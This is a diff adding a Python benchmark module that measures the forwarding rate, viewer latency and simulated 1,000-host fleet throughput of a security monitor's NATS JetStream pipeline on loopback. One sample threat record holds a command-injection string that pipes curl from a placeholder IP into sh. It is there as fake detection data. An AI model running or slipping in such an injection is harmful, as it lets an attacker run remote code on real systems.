@@ -1,0 +1,211 @@
+"""`kgmon bench --fleet`: the fleet's figures on loopback (docs/fleet.md).
+
+1. Forward rate: `kgmon forward`'s Forwarder, in this process, sending a history of N
+   threats to a local single-node nats-server until every one is acknowledged.
+2. Publish -> fleet viewer latency: fleet messages published (as the forwarder does)
+   at a steady rate, read by a viewer's durable consumer (viewer.follow) in this
+   process; latency = received - published, same clock.
+3. A simulated fleet: 1,000 hosts at 10 threats/s each from one process into a
+   three-node cluster with a replicas=3 stream: the rate kept, and the ack latency.
+
+Servers and files live in a temporary folder, removed at the end.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import shutil
+import tempfile
+import time
+from pathlib import Path
+
+from kindlyguard_monitor.fleet import message, subjects
+from kindlyguard_monitor.fleet.connect import Options, ensure_stream
+from kindlyguard_monitor.fleet.forwarder import Forwarder, _AckInbox
+from kindlyguard_monitor.fleet.localserver import Cluster, NatsServer
+from kindlyguard_monitor.history.records import StoredThreat
+
+
+def _pct(values: list[float], p: float) -> float:
+    if not values:
+        return float("nan")
+    s = sorted(values)
+    return s[min(len(s) - 1, int(p / 100 * len(s)))]
+
+
+def _make_history(path: Path, n: int) -> None:
+    from kindlyguard_monitor import _ring
+    from kindlyguard_monitor.demo.threats import ThreatGenerator  # realistic text
+    from kindlyguard_monitor.history.store import HistoryStore
+    from kindlyguard_monitor.transport.manager import Batch
+
+    gen = ThreatGenerator(seed=16)
+    now = time.time_ns() // 1000
+    store = HistoryStore(path).start()
+    store.wait_ready(60)
+    for start in range(0, n, 1000):
+        events = []
+        for seq in range(start, min(n, start + 1000)):
+            t = gen.next()
+            events.append(_ring.Event((seq, 0, 0, now + seq, t.threat_type, t.severity, t.blocked, 0, t.source,
+                                       t.details)))
+        store.submit([Batch("shm", 0x16, events)])
+    store.close(120)
+
+
+def _sample(seq: int, now_us: int) -> StoredThreat:
+    return StoredThreat(seq, 0, 0, now_us, 4, 1 + seq % 4, bool(seq % 2), 0, "mcp:tools/call:shell.exec",
+                        "Command injection: \"; curl http://203.0.113.7/x | sh\" in argument 2 of shell.exec",
+                        f"0000000000000016-{seq}", 0x16, "shm", seq + 1, now_us)
+
+
+async def _forward_rate(url: str, folder: Path, n: int) -> dict:
+    hist = folder / "history.sqlite3"
+    _make_history(hist, n)
+    fwd = Forwarder(hist, Options((url,), name="kgmon bench"), "bench-host", window=4096)
+    cpu, wall = time.process_time(), time.perf_counter()
+    done = await fwd.run(asyncio.Event(), until_idle=True)
+    wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
+    return {"threats": n, "acknowledged": fwd.stats.acked, "all_acknowledged": done, "seconds": round(wall, 3),
+            "rate_per_s": round(fwd.stats.acked / wall), "cpu_us_per_threat": round(cpu / max(1, n) * 1e6, 1)}
+
+
+async def _latency(url: str, rate: int, seconds: float) -> dict:
+    import nats
+
+    from kindlyguard_monitor.fleet.viewer import follow
+
+    opts = Options((url,), name="kgmon bench")
+    stop = asyncio.Event()
+    lat: list[float] = []
+    total = int(rate * seconds)
+
+    async def view():
+        async for item in follow(opts, "bench-viewer", stop, subjects.host_filter("bench-latency")):
+            if isinstance(item, message.FleetThreat):
+                lat.append((time.time_ns() // 1000 - item.timestamp_unix_us) / 1000)
+                if len(lat) >= total:
+                    stop.set()
+
+    viewer = asyncio.create_task(view())
+    await asyncio.sleep(0.5)  # the consumer exists before the first publish
+    nc = await nats.connect(url)
+    acks = _AckInbox(nc)
+    await acks.start()
+    start = time.perf_counter()
+    for i in range(total):
+        due = start + i / rate
+        delay = due - time.perf_counter()
+        if delay > 0:
+            await asyncio.sleep(delay)
+        t = _sample(i, time.time_ns() // 1000)
+        await acks.publish(message.threat_message("bench-latency", "bench", i.to_bytes(16, "big"), t), 0, i)
+    try:
+        await asyncio.wait_for(viewer, seconds + 20)
+    except asyncio.TimeoutError:
+        stop.set()
+    await nc.close()
+    return {"rate_per_s": rate, "threats": total, "received": len(lat), "p50_ms": round(_pct(lat, 50), 2),
+            "p99_ms": round(_pct(lat, 99), 2), "max_ms": round(max(lat), 2) if lat else None}
+
+
+async def _fleet(urls: str, hosts: int, per_host_rate: float, seconds: float) -> dict:
+    import nats
+
+    nc = await nats.connect(servers=urls.split(","))
+    js = nc.jetstream(timeout=10)
+    deadline = time.monotonic() + 30
+    while "created" not in (answer := await ensure_stream(js, replicas=3)) and "is there" not in answer:
+        if time.monotonic() > deadline:
+            raise RuntimeError(answer)
+        await asyncio.sleep(0.3)
+    acks = _AckInbox(nc)
+    await acks.start()
+    names = [f"ws{i:05d}" for i in range(hosts)]
+    rate = hosts * per_host_rate
+    total = int(rate * seconds)
+    pending, lat, refused = [], [], 0
+    start = time.perf_counter()
+    tick = 0.01
+    sent = 0
+    while sent < total:
+        due = int(min(total, (time.perf_counter() - start) * rate + rate * tick))
+        while sent < due:
+            host = names[sent % hosts]
+            t = _sample(sent // hosts, time.time_ns() // 1000)
+            out = message.threat_message(host, "bench", sent.to_bytes(16, "big"), t)
+            pending.append((time.perf_counter(), await acks.publish(out, 0, sent)))
+            sent += 1
+        await asyncio.sleep(tick)
+    send_s = time.perf_counter() - start
+    end = time.monotonic() + 30
+    while any(p.result is None for _, p in pending) and time.monotonic() < end:
+        await asyncio.sleep(0.05)
+    for sent_at, p in pending:
+        if p.result is True:
+            lat.append((p.sent - sent_at) * 1000)
+    done_s = time.perf_counter() - start
+    refused = sum(1 for _, p in pending if isinstance(p.result, str))
+    info = await js.stream_info(subjects.STREAM)
+    await nc.close()
+    return {"hosts": hosts, "per_host_rate": per_host_rate, "offered_per_s": rate, "seconds": seconds,
+            "published": total, "stored": info.state.messages, "refused": refused,
+            "sent_per_s": round(total / send_s), "acked_per_s": round(total / done_s)}
+
+
+async def _ack_latency(urls: str) -> dict:
+    """Ack latency of single publishes into the R3 stream (what one workstation waits per threat)."""
+    import nats
+
+    nc = await nats.connect(servers=urls.split(","))
+    js = nc.jetstream(timeout=10)
+    lat = []
+    for i in range(300):
+        t0 = time.perf_counter()
+        await js.publish(subjects.threat_subject("ws-lat", 2), b"{}", headers={subjects.H_MSG_ID: f"lat-{i}"})
+        lat.append((time.perf_counter() - t0) * 1000)
+    await nc.close()
+    return {"p50_ms": round(_pct(lat, 50), 2), "p99_ms": round(_pct(lat, 99), 2)}
+
+
+def measure_fleet(short: bool, progress) -> dict:
+    folder = Path(tempfile.mkdtemp(prefix="kgmon-fleet-bench-"))
+    out: dict = {"short": short}
+    try:
+        server = NatsServer(folder / "single").start()
+        try:
+            n = 20_000 if short else 100_000
+            progress(f"forward rate: {n:,} threats to one local server")
+            out["forward"] = asyncio.run(_forward_rate(server.url, folder, n))
+            progress("publish -> fleet viewer latency at 1,000 threats/s")
+            out["latency"] = asyncio.run(_latency(server.url, 1000, 2 if short else 5))
+        finally:
+            server.kill()
+        cluster = Cluster(folder / "cluster").start()
+        try:
+            hosts, secs = 1000, (3 if short else 10)
+            progress(f"simulated fleet: {hosts:,} hosts at 10 threats/s into a 3-node cluster (R3), {secs} s")
+            out["fleet"] = asyncio.run(_fleet(cluster.urls, hosts, 10, secs))
+            out["fleet"]["ack_latency"] = asyncio.run(_ack_latency(cluster.urls))
+        finally:
+            cluster.kill()
+    finally:
+        shutil.rmtree(folder, ignore_errors=True)
+    return out
+
+
+def render_fleet(out: dict) -> str:
+    f, l, c = out["forward"], out["latency"], out["fleet"]
+    return "\n".join([
+        f"fleet (NATS JetStream on loopback{', short' if out['short'] else ''})",
+        f"  forward rate (one host, file store, R1)  {f['rate_per_s']:>9,} threats/s  "
+        f"({f['threats']:,} in {f['seconds']} s, {f['cpu_us_per_threat']} µs of CPU each, all acknowledged: "
+        f"{f['all_acknowledged']})",
+        f"  publish -> fleet viewer at {l['rate_per_s']:,}/s      p50 {l['p50_ms']} ms, p99 {l['p99_ms']} ms, "
+        f"max {l['max_ms']} ms ({l['received']:,} of {l['threats']:,} received)",
+        f"  simulated fleet: {c['hosts']:,} hosts x {c['per_host_rate']:g}/s into 3 nodes (R3)  "
+        f"offered {c['offered_per_s']:,.0f}/s, sent {c['sent_per_s']:,}/s, acknowledged {c['acked_per_s']:,}/s; "
+        f"{c['stored']:,} stored of {c['published']:,}, {c['refused']} refused",
+        f"  one publish's ack from the R3 stream      p50 {c['ack_latency']['p50_ms']} ms, "
+        f"p99 {c['ack_latency']['p99_ms']} ms",
+    ])
